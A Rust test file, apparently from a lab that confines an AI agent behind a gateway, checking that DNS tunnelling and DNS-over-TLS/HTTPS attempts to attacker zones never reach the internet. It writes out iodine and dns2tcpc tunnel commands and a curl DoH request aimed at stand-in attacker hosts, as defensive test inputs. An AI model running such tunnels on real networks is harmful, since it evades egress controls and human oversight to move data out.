//! DNS as the way out: an agent that would tunnel through names finds that none of the attacker's
//! names leaves the gateway. Every test ends with a listed name, which the capture must hold.

use std::{
    process::{Command, Stdio},
    time::Duration,
};

use hickory_proto::{
    op::ResponseCode,
    rr::{RecordType, rdata::opt::EdnsOption},
};
use lab::{
    client::{Tls, agent},
    net::{AGENT, ATTACKER, INTERNET, OPENAI},
    sandboxed, wait,
};

use super::{
    client::{anywhere, ask, ask_tcp, ask_udp, code, query, rand, resolvers},
    config,
};
use crate::world::World;

#[test]
fn a_thousand_attacker_names_leave_the_wan_silent() {
    sandboxed(|| {
        let world = World::with(&config(100_000));
        let wan = world.lab.capture(INTERNET);
        let kinds = [
            RecordType::A,
            RecordType::AAAA,
            RecordType::TXT,
            RecordType::NULL,
            RecordType::CNAME,
            RecordType::MX,
            RecordType::SRV,
            RecordType::HTTPS,
            RecordType::ANY,
            RecordType::AXFR,
        ];
        let servers = resolvers();
        for number in 0..1_000 {
            let label = format!("{:04x}{number:04x}", rand());
            let zone = [ATTACKER.name, "attacker.pypi.example", "pypi.example.attacker.example"];
            let name = format!("{label}.{}", zone[number % zone.len()]);
            let kind = kinds[number % kinds.len()];
            let server = servers[number % servers.len()];
            // In tens, so that every type is asked for over both.
            let over_tcp = (number / kinds.len()).is_multiple_of(20);
            let asked = if over_tcp { ask_tcp } else { ask_udp };
            let answer = asked(AGENT, server, &query(&name, kind))
                .unwrap_or_else(|error| panic!("{server} {name} {kind}: {error}"));
            let expected = match kind {
                RecordType::A | RecordType::AAAA | RecordType::HTTPS => ResponseCode::NXDomain,
                _ => ResponseCode::Refused,
            };
            assert_eq!(code(&answer), expected, "{name} {kind}");
            let info = answer.edns.as_ref().and_then(|edns| edns.option(15.into()));
            let Some(EdnsOption::Unknown(_, info)) = info else { panic!("no extended error") };
            assert_eq!(
                info[..2],
                if expected == ResponseCode::NXDomain { [0, 15] } else { [0, 21] }
            );
        }
        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
        // This shows that the capture sees such names.
        ask(anywhere(), OPENAI.name, RecordType::A);
        assert!(wan.holds("openai"));
        assert_eq!(world.dns.asked().len(), 2, "A and AAAA: {:?}", world.dns.asked());
    });
}

#[test]
fn tunnels_over_dns_find_nothing_to_ride_on() {
    sandboxed(|| {
        let world = World::with(&config(10_000));
        let wan = world.lab.capture(INTERNET);
        // Each tool has a zone of its own, by which the audit tells them apart.
        let [v4, v6] = [ATTACKER.v4().to_string(), ATTACKER.v6().to_string()];
        let lines = [
            format!("iodine -f -r -P secret {v4} i4.attacker.example"),
            format!("iodine -f -r -P secret -T NULL -O raw {v4} raw.attacker.example"),
            // Without -r it sends datagrams to the server itself, as soon as it can.
            format!("iodine -f -P secret {v4} u4.attacker.example"),
            format!("iodine -f -r -P secret -T TXT {v6} i6.attacker.example"),
            // It does not support IPv6.
            format!("dns2tcpc -c -z d4.attacker.example {v4}"),
            format!("dns2tcpc -c -T KEY -k key -z key.attacker.example {v4}"),
        ];
        let mut running = Vec::new();
        for line in lines {
            let program = line.split(' ').next().expect("a program");
            assert!(installed(program), "{program} is missing; tests/prerequisites installs it");
            let mut command = AGENT.command("sh");
            command.args(["-c", &format!("exec {line}")]);
            running.push((line, command.stdout(Stdio::null()).stderr(Stdio::null()).spawn()));
        }
        std::thread::sleep(Duration::from_secs(6));
        for (line, child) in running {
            let mut child = child.unwrap_or_else(|error| panic!("{line}: {error}"));
            // The tool may have given up by itself.
            let _ = child.kill();
            let _ = child.wait();
        }
        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
        let bytes = wan.bytes();
        let holds = |address: &[u8]| bytes.windows(address.len()).any(|at| at == address);
        assert!(
            !holds(&ATTACKER.v4().octets()) && !holds(&ATTACKER.v6().octets()),
            "to the server"
        );
        // This shows that the capture sees such names.
        ask(anywhere(), OPENAI.name, RecordType::A);
        assert!(wan.holds("openai"));
        // They did try, each at the resolver that it was given.
        let tried =
            [("i4", &v4), ("raw", &v4), ("u4", &v4), ("i6", &v6), ("d4", &v4), ("key", &v4)];
        for (zone, server) in tried {
            let zone = format!("{zone}.attacker.example");
            let tried = world.gateway.audit.wait_for(|record| {
                let name = record["name"].as_str().unwrap_or_default();
                record["server"] == *server && name.trim_end_matches('.').ends_with(&zone)
            });
            assert!(tried.is("dns"), "{zone}: {tried}");
        }
    });
}

/// DNS over TLS and over HTTPS are TLS to an unlisted name, at a port that is listed (443) or is
/// not (853).
#[test]
fn dns_inside_tls_to_an_unlisted_name_stays_inside() {
    sandboxed(|| {
        let world = World::usual();
        let wan = world.lab.capture(INTERNET);
        let hello = world.hello("dns.attacker.example");
        for to in [443, 853].map(|port| [ATTACKER.port(port), ATTACKER.port6(port)]).concat() {
            Tls::open(AGENT, to, &hello).map(drop).expect_err("no TLS with the attacker");
        }
        for to in [ATTACKER.port(443), ATTACKER.port6(443)] {
            let mut curl = agent(&world.lab, AGENT, "curl");
            let address = to.to_string().replace(":443", "");
            let resolved = format!("dns.attacker.example:443:{address}");
            curl.args(["-sS", "--max-time", "5", "--resolve", &resolved, "--doh-url"]);
            curl.args(["https://dns.attacker.example/dns-query", "https://other.example/"]);
            assert!(!curl.status().expect("curl runs").success(), "{to}");
            wait::expect("a refusal for each client", || {
                let records = world.connections().into_iter();
                let denied = records.filter(|it| it["reason"] == "sni_denied");
                denied.filter(|it| it["dialled"] == to.to_string()).count() >= 2
            });
        }
        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
        world.origin.log().assert_untouched();
        // This shows that the capture sees such names.
        ask(anywhere(), OPENAI.name, RecordType::A);
        assert!(wan.holds("openai"));
    });
}

fn installed(program: &str) -> bool {
    let line = format!("PATH=$PATH:/usr/sbin:/sbin command -v {program}");
    Command::new("sh")
        .args(["-c", &line])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|it| it.success())
}
